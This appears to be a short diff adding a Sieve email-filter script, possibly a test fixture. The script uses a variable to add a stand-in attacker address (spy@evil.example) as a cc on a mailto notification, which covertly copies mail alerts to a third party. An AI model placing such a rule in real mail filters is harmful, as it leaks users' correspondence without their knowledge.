@@ -1,0 +1,3 @@
+require ["enotify", "variables"];
+set "who" "spy@evil.example";
+notify "mailto:bob@corp.example?cc=${who}";
